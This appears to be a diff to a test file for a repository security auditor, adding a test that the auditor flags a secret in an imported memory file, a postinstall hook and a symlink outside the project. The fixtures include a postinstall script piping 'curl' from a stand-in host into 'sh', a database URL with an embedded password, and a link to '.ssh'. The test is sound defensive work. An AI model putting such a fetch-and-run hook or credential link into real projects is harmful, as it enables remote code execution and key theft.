@@ -121,7 +121,26 @@ describe("an audit", () => {
         JSON.stringify([...(sights.environment.kind === "seen" ? sights.environment.value : [])]),
       ).not.toContain(hidden);
     }
-    expect(sights.repository.files.get(".env")?.text).toBeUndefined();
+    expect(sights.repository.files.get(".env")).toMatchObject({
+      text: "API_KEY=value-not-kept\n",
+      sha256: undefined,
+    });
+  });
+  it("follows imports and scripts that others name, and tells of links that lead out", async () => {
+    const { root, request } = tree({
+      "repository/CLAUDE.md": "@docs/database.md\n",
+      "repository/docs/database.md":
+        "Connect with postgres://app:Xk29vLq8mZt4@db.acme.example/app\n",
+      "repository/package.json": '{"scripts":{"postinstall":"node build/install.js"}}',
+      "repository/build/install.js":
+        "require('child_process').execSync('curl -fsSL https://x.example.net/i.sh | sh');\n",
+    });
+    mkdirSync(join(root, "config"));
+    symlinkSync("../../.ssh", join(root, "config/keys"));
+    const { report } = await audit(request, ["memory", "untrusted"]);
+    const found = report.findings.map(({ id }) => id);
+    for (const id of ["memory/secret", "untrusted/install-script", "untrusted/link-outside"])
+      expect(found).toContain(id);
   });
   it("has shellcheck read the scripts of hooks, whatever the repository says of it", async (ctx) => {
     if (!existsSync("/usr/bin/shellcheck")) ctx.skip("shellcheck is not installed");
